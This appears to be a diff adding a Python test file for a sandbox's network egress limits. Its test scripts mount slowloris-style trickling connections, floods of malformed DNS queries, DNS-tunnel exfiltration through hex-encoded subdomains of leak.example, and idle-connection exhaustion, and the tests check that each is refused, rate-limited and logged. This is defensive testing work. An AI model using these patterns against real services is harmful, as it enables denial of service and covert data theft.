@@ -1,0 +1,165 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: Apache-2.0
+"""
+What a run may do on the network in all: bounds on what a hostile inside makes Ward do, with their records. Nothing here is timed but
+what is a time limit itself.
+"""
+import resource
+import socket
+import threading
+
+import box
+from box import both
+from egress_box import HELLO, NAME, PYTHON, Dns, Net, refused
+from tap import check, check_eq, check_in
+
+
+@both
+def a_request_that_trickles_is_refused_and_others_are_served(p):
+    n = Net(p)
+    script = f"""
+import socket, time, urllib.request
+slow = [socket.create_connection(({NAME!r}, {n.http.port})) for _ in range(20)]
+for s in slow:
+    s.sendall(b"GET /hello HTTP/1.1\\r\\n")
+out = set()
+end = time.monotonic() + 20
+while slow and time.monotonic() < end:
+    time.sleep(0.3)
+    for s in list(slow):
+        try:
+            s.sendall(b"x")
+        except OSError as e:
+            out.add(type(e).__name__)
+            slow.remove(s)
+print(urllib.request.urlopen({n.url()!r}).read().decode(), end="")
+print(len(slow), sorted(out))
+"""
+    r, doc = n.run(PYTHON, "-c", script)
+    check_eq((r.code, r.out.splitlines()[0]), (0, HELLO.decode().strip()), r.err)
+    check_eq(r.out.splitlines()[1].split()[0], "0")
+    found = refused(n, doc, f"{NAME}:{n.http.port}", "broken")
+    check_eq(found["effect"], "deny")
+    check_eq(sum(v["count"] for v in doc["violations"]), 20, str(doc["violations"]))
+    check_eq(n.http.requests, ["GET /hello HTTP/1.1"])
+
+
+@both
+def questions_for_what_is_no_name_are_counted_in_one_record(p):
+    n = Net(p)
+    script = """
+import socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(10)
+s.connect(("198.18.0.1", 53))
+for i in range(100):
+    name = b"".join(bytes([len(x)]) + x for x in (b"%d" % i, b"a_b", b"example")) + b"\\0"
+    s.send(struct.pack(">HHHHHH", i, 256, 1, 0, 0, 0) + name + struct.pack(">HH", 16, 1))
+    assert s.recv(512)[3] & 15 == 3
+"""
+    r, doc = n.run(PYTHON, "-c", script)
+    check_eq(r.code, 0, r.err)
+    told = [x for x in n.told("dns.block") if x["detail"]["reason"] == "no_host"]
+    check_eq(sum(x["detail"]["count"] for x in told), 100, str(told))
+    check(len(told) <= 8, str(told))
+    # Many programs ask for such things and nothing leaves: it is no violation.
+    check_eq(doc["violations"], [])
+    check_eq(n.dns.queries, [])
+
+
+class Everything(Dns):
+    """Knows every name."""
+
+    def answer(self, q, cut=False):
+        at, labels = 12, []
+        while q[at]:
+            labels.append(q[at + 1:at + 1 + q[at]].decode())
+            at += 1 + q[at]
+        self.answers.setdefault(".".join(labels), ["127.0.0.1"])
+        return super().answer(q, cut)
+
+
+@both
+def names_below_a_domain_that_carry_data_out_have_a_pace(p):
+    """Whatever is asked for: only so many leave, and the log says so."""
+    n = Net(p)
+    n.dns = Everything({})
+    script = """
+import socket
+for i in range(900):
+    try:
+        socket.getaddrinfo(f"{i:08x}.leak.example", 443, socket.AF_INET)
+    except OSError:
+        pass
+"""
+    r, doc = n.run(PYTHON, "-c", script, grants=["--resolver", n.dns.at, "--cap", "NETWORK_CONNECT:*.leak.example:443"])
+    check_eq(r.code, 0, r.err)
+    left, seconds = len(n.dns.names()), doc["duration_ms"] / 1000
+    check(0 < left <= 512 + 64 * (seconds + 1), f"{left} names in {seconds} s")
+    if left < 900:
+        check_in("egress.lookups", [x["resource"] for x in box.records(p) if x["kind"] == "limit.hit"])
+
+
+class Brief:
+    """A server that ends its own side at once: the connection stays, and costs this process nothing."""
+
+    def __init__(self):
+        self.socket = socket.create_server(("127.0.0.1", 0), backlog=4096)
+        self.port = self.socket.getsockname()[1]
+        threading.Thread(target=self.serve, daemon=True).start()
+
+    def serve(self):
+        while True:
+            self.socket.accept()[0].close()
+
+
+@both
+def idle_connections_are_bounded_and_others_are_served(p):
+    """
+    As many as there is room for; the next are reset, that is told, and who comes when some have gone is served. There is room for half of the
+    descriptors that the hard limit allows, and 8192; here for few, since ten thousand cost a minute of a processor.
+    """
+    n = Net(p)
+    brief = Brief()
+    resource.setrlimit(resource.RLIMIT_NOFILE, (1040, 1040))
+    script = f"""
+import socket, time, urllib.request
+where = socket.getaddrinfo({NAME!r}, {brief.port}, socket.AF_INET)[0][4]
+idle, reset = [], 0
+for i in range(700):
+    s = socket.socket()
+    s.settimeout(30)
+    try:
+        s.connect(where)
+        idle.append(s)
+    except ConnectionResetError:
+        reset += 1
+for s in idle:
+    try:
+        s.recv(1)
+    except OSError:
+        reset += 1
+print(reset)
+for s in idle:
+    s.close()
+end = time.monotonic() + 30
+while True:
+    try:
+        print(urllib.request.urlopen({n.url()!r}).read().decode(), end="")
+        break
+    except OSError:
+        if time.monotonic() > end:
+            raise
+        time.sleep(0.2)
+"""
+    r, _ = n.run(PYTHON, "-c", script, grants=n.grants(f"{NAME}:{brief.port}", f"127.0.0.1:{brief.port}"))
+    check_eq(r.code, 0, r.err)
+    check_eq(r.out.splitlines()[1], HELLO.decode().strip())
+    check(int(r.out.splitlines()[0]) >= 700 - 512, r.out)
+    hits = [x for x in box.records(p) if x["kind"] == "limit.hit"]
+    check_in("egress.flows", [x["resource"] for x in hits])
+    check_eq(sum(x["detail"]["count"] for x in hits if x["resource"] == "egress.flows"), int(r.out.splitlines()[0]))
+
+
+if __name__ == "__main__":
+    box.main()
